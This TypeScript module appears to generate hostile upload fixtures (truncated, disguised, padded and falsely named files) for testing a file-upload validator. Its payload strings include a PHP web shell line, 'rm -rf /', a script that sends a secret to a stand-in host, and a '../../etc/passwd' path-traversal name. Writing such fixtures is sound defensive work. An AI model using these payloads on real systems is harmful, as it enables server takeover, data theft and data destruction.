/** A received file with its expected result: accepted clean, refused in words, or either of the two. */
export type HostileFile = {
  readonly name: string
  readonly bytes: Buffer
  readonly outcome: 'taken' | 'refused' | 'either'
  /** The form's false statement about it, if any. */
  readonly as?: { readonly fileName: string; readonly mediaType: string }
}

/** A good file of a kind, to make others from. */
export type BaseFile = { readonly name: string; readonly bytes: Buffer }

/** Bytes that must never be found again: in a stored file, or in a returned photo. */
export const secret = 'SECRET-13.5475N-100.2744E'

/** Every base cut at every of these parts of its length, and one byte before its end. */
export function cutFiles(bases: readonly BaseFile[]): HostileFile[] {
  const parts = [0.02, 0.05, 0.1, 0.25, 0.5, 0.75, 0.9]
  return bases.flatMap(({ name, bytes }) => [
    ...parts.map((part): HostileFile => ({
      name: `${name}, cut at ${part * 100} %`,
      bytes: bytes.subarray(0, Math.floor(bytes.length * part)),
      outcome: 'refused',
    })),
    // the last byte of a photo says nothing that its reader needs
    { name: `${name} without its last byte`, bytes: bytes.subarray(0, -1), outcome: 'either' },
  ])
}

/** Every base behind bytes that belong to something else. */
export function disguisedFiles(bases: readonly BaseFile[]): HostileFile[] {
  const fronts: readonly [string, string][] = [
    ['a line break', '\n'],
    ['a byte-order mark', '\xef\xbb\xbf'],
    ['a zero', '\0'],
    ['the start of a GIF', 'GIF89a'],
    ['the start of a program', 'MZ\x90\0'],
    ['the start of an archive', 'PK\x03\x04'],
    ['a web page', `<html><script>${secret}</script>`],
  ]
  return bases.flatMap(({ name, bytes }) =>
    fronts.map(([front, text]) => ({
      name: `${name} behind ${front}`,
      bytes: Buffer.concat([Buffer.from(text, 'latin1'), bytes]),
      outcome: 'refused' as const,
    })),
  )
}

/** Every base with something behind its end: a photo loses it, a PDF with it is refused. */
export function filesWithMoreBehind(bases: readonly BaseFile[], outcome: HostileFile['outcome']): HostileFile[] {
  const tails: readonly [string, string][] = [
    ['a web page', `<html><script>fetch("//x/${secret}")</script>`],
    ['a PHP program', `<?php /* ${secret} */ system($_GET["c"]); ?>`],
    ['an archive', `PK\x03\x04${secret}`],
    ['a program', `\x7fELF\x02\x01${secret}`],
    ['a shell script', `\n#!/bin/sh\n# ${secret}\nrm -rf /`],
    ['100 KB of text', secret.repeat(4_000)],
  ]
  return bases.flatMap(({ name, bytes }) =>
    tails.map(([tail, text]) => ({
      name: `${name} with ${tail} behind it`,
      bytes: Buffer.concat([bytes, Buffer.from(text, 'latin1')]),
      outcome,
    })),
  )
}

/** Every base under the name and the type of something else: only its bytes count. */
export function renamedFiles(bases: readonly BaseFile[]): HostileFile[] {
  const lies: readonly [string, string][] = [
    ['../../etc/passwd', 'text/plain'],
    ['photo.svg', 'image/svg+xml'],
    ['index.html', 'text/html'],
    ['permit.pdf.exe', 'application/x-msdownload'],
  ]
  return bases.flatMap(({ name, bytes }) =>
    lies.map(([fileName, mediaType]): HostileFile => ({
      name: `${name} called ${fileName}`,
      bytes,
      outcome: 'taken',
      as: { fileName, mediaType },
    })),
  )
}
